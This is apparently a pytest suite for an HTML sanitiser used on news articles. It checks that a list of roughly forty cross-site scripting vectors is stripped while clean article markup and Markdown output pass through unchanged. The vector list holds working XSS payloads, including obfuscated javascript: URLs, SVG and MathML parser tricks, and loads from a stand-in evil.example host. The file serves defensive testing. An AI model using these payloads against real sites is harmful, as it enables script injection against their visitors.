"""What a browser must never get from an article, and what must reach it untouched."""

from __future__ import annotations

import re

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown import Markdown

from .sanitise import TAGS, removed, sanitise

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<p onclick=alert(1) OnMouseOver='x()'>x</p>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<video src="javascript:alert(1)" poster="javascript:alert(2)" onplay=x></video>',
    '<img src=a srcset="javascript:alert(1) 1x, //evil.example/a 2x">',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=x&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>@import '//evil.example/x.css'</style>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<iframe src="//evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>',
    '<form action="//evil.example"><input name=a>'
    '<button formaction="javascript:x">x</button></form>',
    '<a href="x" target="_blank" ping="//evil.example">x</a>',
    '<template><img src=x onerror="alert(1)"></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>x</details>",
    '<blockquote cite="javascript:x">x</blockquote>',
    '<div id="__proto__" tabindex="5" role="alert">x</div>',
    "<ruby>x<rt onmouseover=x>y</rt></ruby>",
]
CLEAN = """<h2 id="dinh-huong">Định hướng</h2>
<p>Một <em>hai</em> <strong>ba</strong> <abbr title="Ủy ban nhân dân">UBND</abbr> H<sub>2</sub>O\
<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup> &amp; “bốn” ./.<br>
<a href="{filename}/tin-tuc/a.md">a</a> <a href="{static}/tep/2023/b.pdf#trang=2">b</a>
<a href="/tin-tuc/">c</a> <a href="../d/?a=1&amp;b=2">d</a> <a href="https://example.vn/e">e</a>
<a href="mailto:a@example.vn">f</a> <a href="tel:+84209">g</a> <a href="{attach}h.doc">h</a></p>
<figure class="photo"><img src="{static}/anh/a.jpg" alt="Ảnh" width="3" height="2" loading="lazy">\
<figcaption><span class="hidden">Chú thích ảnh: </span>Ai <span class="credit">Ảnh: X</span>\
</figcaption></figure>
<figure class="table"><div class="scroll" tabindex="0" role="group" aria-labelledby="b">\
<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td class="right" colspan="2">1\
</td></tr></tbody></table></div><figcaption id="b">B</figcaption></figure>
<figure class="video"><video src="a.mp4" controls="" preload="none"><source src="a.webm" \
type="video/webm"><track src="a.vtt" kind="captions" srclang="vi"></video></figure>
<figure class="audio"><audio src="a.mp3" controls="" preload="none"></audio></figure>
<ol start="3"><li>x</li></ol><dl><dt>y</dt><dd>z</dd></dl><blockquote><p>q</p></blockquote>
<details open=""><summary>s</summary>t</details><pre><code>a &lt; b</code></pre>
<p><time datetime="2023-12-11">11/12</time> <mark>m</mark> <i lang="en">w</i> \
<span class="end" role="img" aria-label="Hết bài">./.</span></p>
<div class="footnote"><hr><ol><li id="fn:1"><p>n</p></li></ol></div>"""


def dangers(html: str) -> list[str]:
    """What a browser would find in `html` that could run, load or navigate by itself."""
    found = []
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            found.append("comment")
        elif element.tag not in TAGS | {"DOCUMENT_FRAGMENT"}:
            found.append(element.tag)
        for name, value in element.attrib.items():
            scheme = re.match(r"[\x00-\x20]*([^/?#]*?):", value)
            if name.startswith("on") or name in {"style", "srcset", "srcdoc", "target", "ping"}:
                found.append(name)
            if name in {"href", "src", "poster", "cite"} and scheme:
                bare = re.sub(r"[\x00-\x20]", "", scheme[1]).lower()
                if bare not in {"http", "https", "mailto", "tel"}:
                    found.append(f"{name}={bare}")
            if name in {"tabindex", "role"} and value in {"5", "alert"}:
                found.append(name)
    return found


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_runs_or_loads_by_itself_is_left(vector: str) -> None:
    for html in (vector, f"<p>Trước</p>{vector}<p>Sau</p>", f"<table><tr><td>{vector}"):
        assert dangers(sanitise(html)) == []
        assert sanitise(sanitise(html)) == sanitise(html)


@pytest.mark.parametrize("vector", VECTORS)
def test_what_was_taken_away_can_be_named(vector: str) -> None:
    # What a comment hides from the parser needs no message: the reader never gets it.
    if "<!--" not in vector and dangers(vector):
        assert removed(vector)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*VECTORS, "<", ">", '"', "<p>", "</p>", "<!--", "&#60;"])))
def test_no_mixture_of_vectors_is_dangerous(parts: list[str]) -> None:
    assert dangers(sanitise("".join(parts))) == []


def test_clean_html_comes_through_unchanged() -> None:
    assert sanitise(CLEAN) == CLEAN
    assert removed(CLEAN) == []


def test_all_that_markdown_writes_is_kept() -> None:
    source = (
        "## Mục\n\nChữ[^1] *a* **b** `c`\n\n- x\n- y\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n"
        "Từ\n:   nghĩa\n\n> trích\n\n![alt](a.jpg)\n\n[^1]: Ghi chú\n\n*[UB]: Ủy ban\n"
    )
    md = Markdown(
        extensions=["tables", "footnotes", "def_list", "abbr", "sane_lists", "md_in_html"],
        output_format="html",
    )
    assert removed(md.convert(source)) in ([], ["title"])


def test_removed_names_tags_and_attributes_once_in_order() -> None:
    html = (
        '<p class="MsoNormal" style="x">a</p><font>b</font><p style="y">c</p>'
        '<a href="javascript:x">d</a><iframe></iframe>'
    )
    assert removed(html) == ["class", "style", "<font>", "href", "<iframe>"]


def test_text_inside_word_tags_is_kept() -> None:
    assert sanitise('<p><font size="2"><o:p>Chữ</o:p></font></p>') == "<p>Chữ</p>"
